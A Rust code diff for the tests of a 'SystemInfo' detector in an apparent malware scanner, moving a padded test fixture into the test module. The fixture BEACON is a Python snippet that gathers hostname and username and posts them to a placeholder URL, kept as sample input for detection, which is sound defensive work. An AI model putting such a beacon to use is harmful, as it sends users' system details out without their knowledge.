@@ -120,10 +120,18 @@ impl Detector for SystemInfo {
 mod tests {
     use super::*;
     use crate::scan::detectors::testutil::table;
+    use std::sync::LazyLock;
     use FileRole::*;
     use Severity::*;
 
     const BEACON: &str = "import os, socket, getpass, requests\ninfo = {'h': socket.gethostname(), 'u': getpass.getuser()}\nrequests.post(U, json=info)\n";
+
+    static FAR: LazyLock<String> = LazyLock::new(|| {
+        format!(
+            "h = socket.gethostname()\n{}requests.post(U)\n",
+            "x = 1\n".repeat(40)
+        )
+    });
 
     #[test]
     fn cases() {
@@ -142,11 +150,3 @@ mod tests {
         );
     }
 }
-
-#[cfg(test)]
-static FAR: LazyLock<String> = LazyLock::new(|| {
-    format!(
-        "h = socket.gethostname()\n{}requests.post(U)\n",
-        "x = 1\n".repeat(40)
-    )
-});
